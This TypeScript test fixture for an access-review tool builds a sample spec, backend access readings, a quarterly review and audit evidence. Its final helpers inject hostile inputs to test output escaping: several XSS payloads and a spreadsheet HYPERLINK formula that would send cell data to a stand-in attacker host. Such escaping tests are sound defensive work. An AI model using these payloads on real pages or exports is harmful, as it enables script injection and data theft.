// A quarter's access review, built by hand: a spec (with its comments and alignment, as people
// write them), a SCIM person, the backends' readings with access datagrant does not manage, and
// the access report the real merge (src/plan/access.ts) makes of them. Reviews, patches, evidence
// and HTML are tested on it without a backend.
import type { AccessReading, AccessReport, ActualAccess, AccessHolder } from '../../src/model/access.js';
import type { AuditRecord, Review, ReviewDataset, ReviewEvidence, ReviewVerdict } from '../../src/model/review.js';
import { accessReport } from '../../src/plan/access.js';
import { isSelfDecision, reviewEvidence } from '../../src/plan/review.js';
import { parseSpec } from '../../src/spec/load.js';
import type { Spec } from '../../src/spec/schema.js';
import { hashJson, sha256 } from '../../src/core/canonical.js';
import { applyStartDetail } from '../../src/model/audit.js';
import { decisionDetail, startDetail } from '../../src/plan/review-audit.js';

export const NOW = new Date('2026-12-01T00:00:00.000Z');

export const SPEC_TEXT = `# Who may use the AI data. Reviewed every quarter (datagrant review).
version: 1
backends:
  aws: { type: aws, region: us-east-1 }
  wh:  { type: postgres, url: postgres://dg@127.0.0.1/analytics }
datasets:
  training-data: { backend: aws, bucket: ai-model-data, prefix: training/ }
  artifacts:     { backend: aws, bucket: ai-model-artifacts }
  features:      { backend: wh, database: analytics, schema: features }
groups:
  ml-researchers:
    grants:
      - { dataset: training-data, access: read }
      - { dataset: features, access: read }
principals:
  alice:   { type: person, email: alice@example.com, groups: [ml-researchers] }   # team lead
  bob:
    type: person
    email: bob@example.com
    groups:
      - ml-researchers     # since 2025
    grants:
      - { dataset: artifacts, access: write, expires: 2027-01-31 }   # eval project
  trainer:
    type: service
    grants:
      - { dataset: artifacts, access: write }
scim:
  groups: { "ML Research": ml-researchers }
`;

export const SPEC_FILE = 'datagrant.yaml';

export function loadFixtureSpec(text = SPEC_TEXT): { fileSpec: Spec; spec: Spec } {
  const fileSpec = parseSpec(text, { file: SPEC_FILE, env: {}, now: NOW }).spec;
  // dana is pushed by the identity provider (SCIM), member of "ML Research".
  const spec: Spec = {
    ...fileSpec,
    principals: { dana: { type: 'person', email: 'dana@example.com', groups: ['ml-researchers'], grants: [] }, ...fileSpec.principals },
  };
  return { fileSpec, spec };
}

const awsUser = (name: string, managed: boolean): AccessHolder => ({
  id: `arn:aws:iam::123456789012:user/${managed ? 'datagrant/' : ''}${name}`,
  kind: 'aws-user',
  name,
  managed,
  ...(managed ? { principal: name } : {}),
});
const pgRole = (name: string, managed: boolean): AccessHolder => ({ id: name, kind: 'pg-role', name, managed, ...(managed ? { principal: name } : {}) });
const PUBLIC: AccessHolder = { id: 'PUBLIC', kind: 'pg-public', name: 'PUBLIC', managed: false };

const levels = (top: ActualAccess['level']) => (['read', 'write', 'admin'] as const).slice(0, ['read', 'write', 'admin'].indexOf(top) + 1);
const access = (backend: string, dataset: string, top: ActualAccess['level'], holder: AccessHolder, via: string): ActualAccess[] =>
  levels(top).map((level) => ({ backend, dataset, level, holder, paths: [{ via }] }));

/** The backends as they are: what the spec says, plus access nobody reviewed into it. */
export function fixtureReadings(opts: { without?: (a: ActualAccess) => boolean; hostile?: string } = {}): Record<string, AccessReading> {
  const aws: ActualAccess[] = [
    ...access('aws', 'training-data', 'read', awsUser('alice', true), 'group ml-researchers (managed policy dg-group-ml-researchers)'),
    ...access('aws', 'training-data', 'read', awsUser('bob', true), 'group ml-researchers (managed policy dg-group-ml-researchers)'),
    ...access('aws', 'training-data', 'read', awsUser('dana', true), 'group ml-researchers (managed policy dg-group-ml-researchers)'),
    ...access('aws', 'artifacts', 'write', awsUser('bob', true), 'inline policy dg-direct-grants of user bob'),
    ...access('aws', 'artifacts', 'write', awsUser('trainer', true), 'inline policy dg-direct-grants of user trainer'),
    ...access('aws', 'training-data', 'read', awsUser('mallory', false), 'inline policy s3-read of user mallory'),
  ];
  if (opts.hostile !== undefined) aws.push(...access('aws', 'artifacts', 'read', awsUser(opts.hostile, false), `inline policy "${opts.hostile}" of user x`));
  const wh: ActualAccess[] = [
    ...access('wh', 'features', 'read', pgRole('alice', true), 'member of role ml-researchers'),
    ...access('wh', 'features', 'read', pgRole('bob', true), 'member of role ml-researchers'),
    ...access('wh', 'features', 'read', pgRole('dana', true), 'member of role ml-researchers'),
    ...access('wh', 'features', 'read', PUBLIC, 'GRANT SELECT ON features.embeddings TO PUBLIC'),
  ];
  const keep = (a: ActualAccess) => !opts.without?.(a);
  return {
    aws: { rows: aws.filter(keep), usage: [], limits: ['service control policies are not readable from a member account'], requests: 4 },
    wh: { rows: wh.filter(keep), usage: [], limits: [], requests: 2 },
  };
}

export function fixtureReport(
  opts: { readings?: Record<string, AccessReading>; text?: string; filters?: AccessReport['filters']; now?: Date } = {},
): AccessReport {
  const { spec } = loadFixtureSpec(opts.text);
  return accessReport({
    spec,
    specHash: sha256(opts.text ?? SPEC_TEXT),
    specFile: SPEC_FILE,
    now: opts.now ?? NOW,
    readings: opts.readings ?? fixtureReadings(),
    sessions: [],
    ...(opts.filters ? { filters: opts.filters } : {}),
  });
}

/** The fixture spec's datasets, as a review records them. */
export const DATASETS: Record<string, ReviewDataset> = {
  artifacts: { backend: 'aws', bucket: 'ai-model-artifacts' },
  features: { backend: 'wh', database: 'analytics', schema: 'features' },
  'training-data': { backend: 'aws', bucket: 'ai-model-data', prefix: 'training/' },
};

export const EMAILS: Record<string, string> = { alice: 'alice@example.com', bob: 'bob@example.com', dana: 'dana@example.com' };

/**
 * A review of the fixture's report, with decisions given as [who, dataset, level, verdict,
 * reviewer, actor]; without an actor, the reviewer recorded it themself.
 */
export function fixtureReview(decisions: [string, string, string, ReviewVerdict, string, string?][] = [], report = fixtureReport()): Review {
  let seq = 10;
  const rowOf = (who: string, dataset: string, level: string) => {
    const row = report.rows.find((r) => r.who === who && r.dataset === dataset && r.level === level);
    if (!row) throw new Error(`no row ${who} ${dataset} ${level} in the fixture`);
    return row;
  };
  return {
    name: '2026-Q4',
    startedAt: NOW.toISOString(),
    startedBy: 'carol@cli',
    manifest: {
      extractedAt: report.generatedAt,
      query: { command: 'datagrant --spec datagrant.yaml access --format json', filters: report.filters },
      specFile: report.specFile,
      specSha256: report.specHash,
      auditHead: { seq: 9, hash: 'f'.repeat(64) },
      datagrantVersion: '0.1.0',
      populationSha256: hashJson(report.rows),
      limits: report.limits,
      invariants: report.invariants,
      requests: report.requests,
      datasets: DATASETS,
    },
    population: report.rows,
    emails: EMAILS,
    // Ordered as the store returns them: by row id, then reviewer.
    decisions: decisions
      .map(([who, dataset, level, decision, reviewer, actor = reviewer]) => {
        const row = rowOf(who, dataset, level);
        return {
          rowId: row.id,
          decision,
          reason: `${decision}: quarterly review`,
          reviewer,
          actor,
          decidedAt: NOW.toISOString(),
          selfReview: isSelfDecision({ reviewer, actor }, row, EMAILS),
          auditSeq: ++seq,
        };
      })
      .sort((a, b) => (a.rowId < b.rowId ? -1 : a.rowId > b.rowId ? 1 : a.reviewer < b.reviewer ? -1 : a.reviewer > b.reviewer ? 1 : 0)),
    closedAt: null,
    closedBy: null,
  };
}

/** The audit entries a review's own writes made: its start (#10) and each standing decision (at its seq). */
export function reviewEntries(review: Review): AuditRecord[] {
  const address = `review/${review.name}`;
  const hash = (seq: number) => String(seq).padStart(64, '0');
  return [
    { seq: 10, at: review.startedAt, actor: review.startedBy, event: 'review.start', address, outcome: 'ok', detail: startDetail(review), hash: hash(10) },
    ...review.decisions.map((d) => ({
      seq: d.auditSeq,
      at: d.decidedAt,
      actor: d.actor,
      event: 'review.decide',
      address,
      outcome: d.decision,
      detail: decisionDetail(d),
      hash: hash(d.auditSeq),
    })),
  ].sort((a, b) => a.seq - b.seq);
}

/** A holder name as hostile as a PostgreSQL role name may be. */
export const HOSTILE = `<script>alert(1)</script>"'><img src=x onerror=alert(2)>`;

export function hostileReport(): AccessReport {
  const r = fixtureReport({ readings: fixtureReadings({ hostile: HOSTILE }) });
  return {
    ...r,
    filters: { principal: `"><b>x</b>` },
    limits: [...r.limits, `bucket <i>ai</i>: no permission to read its policy`],
    invariants: [
      { invariant: `no-<u>public</u>`, message: `PUBLIC reads features through GRANT SELECT ... TO PUBLIC & more`, source: 'actual', dataset: 'features' },
    ],
  };
}

export function hostileEvidence(): ReviewEvidence {
  const report = hostileReport();
  const review = fixtureReview(
    [
      ['alice', 'training-data', 'read', 'revoke', 'carol', 'ci@cli'],
      ['alice', 'training-data', 'read', 'keep', 'alice@example.com'],
      [HOSTILE, 'artifacts', 'read', 'revoke', `<svg onload=alert(3)>`, `<i>x</i>@cli`],
      ['trainer', 'artifacts', 'write', 'keep', 'carol'],
    ],
    report,
  );
  review.decisions[0]!.reason = `=HYPERLINK("http://evil.example/?"&A1,"x") <b>no longer on the team</b>`;
  const fresh = fixtureReport({ readings: fixtureReadings({ hostile: HOSTILE, without: (a) => a.holder.name === 'alice' && a.backend === 'aws' }) });
  // The revocations patch applied: a run of another spec than the one reviewed removes alice's membership.
  const run = { at: '2026-12-03T10:00:00.000Z', actor: 'ci@cli', address: null, outcome: 'ok' };
  const entries = [
    ...reviewEntries(review),
    { ...run, seq: 19, event: 'apply.start', outcome: 'started', detail: applyStartDetail(1, 'run-1', 'c'.repeat(64)), hash: '9'.repeat(64) },
    { ...run, seq: 20, event: 'change.delete', address: 'aws:membership/ml-researchers/alice', detail: null, hash: 'b'.repeat(64) },
    { ...run, seq: 21, event: 'apply.end', detail: '1 applied, 0 failed, 0 skipped', hash: 'd'.repeat(64) },
  ];
  return reviewEvidence({ review, fresh, entries, verdict: { ok: true, entries: 21 }, exportedBy: `auditor "<q>"@cli` });
}
